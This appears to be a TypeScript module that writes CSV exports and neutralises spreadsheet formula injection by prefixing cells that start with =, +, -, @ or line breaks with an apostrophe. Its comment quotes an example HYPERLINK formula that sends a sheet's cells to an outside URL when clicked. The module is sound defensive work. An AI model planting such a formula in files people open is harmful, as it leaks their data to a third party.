/**
 * CSV text as every export writes it (the console's lists, the dashboards, the credit log, the import's report):
 * RFC 4180 quoting, and text a spreadsheet would run as a formula kept as text.
 * A cell whose text starts with =, +, -, @, a tab or a line break is read by Excel, LibreOffice and Google Sheets as a
 * formula (`=HYPERLINK("https://…?"&A1, "Open")` sends the sheet's cells away when clicked), and the text of a cell
 * is often typed by someone other than the person who opens the file: a candidate's name, an import's rejected email.
 * Such a cell gets a leading apostrophe, as OWASP advises; a plain number (-5, +3.2) is left as it is.
 * Excel in the many locales whose list separator is `;` (German, French, Dutch, Spanish, Italian) splits a `.csv` on
 * `;`, where a quote mid-field is plain text: `x;=1+1` or `a,"x;=1"` opens with `=1…` as a cell of its own. So each
 * `;`-separated part of the text is defused the same way.
 */

const FORMULA_START = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;
const NEEDS_QUOTES = /[",\r\n]/;

function defused(part: string): string {
  return FORMULA_START.test(part) && !PLAIN_NUMBER.test(part) ? `'${part}` : part;
}

/** One cell: a date as its ISO time, null and undefined as empty. */
export function csvCell(value: unknown): string {
  const text = value === null || value === undefined ? '' : value instanceof Date ? value.toISOString() : String(value);
  const safe = text.split(';').map(defused).join(';');
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** One record, without its line end. */
export function csvLine(values: readonly unknown[]): string {
  return values.map(csvCell).join(',');
}
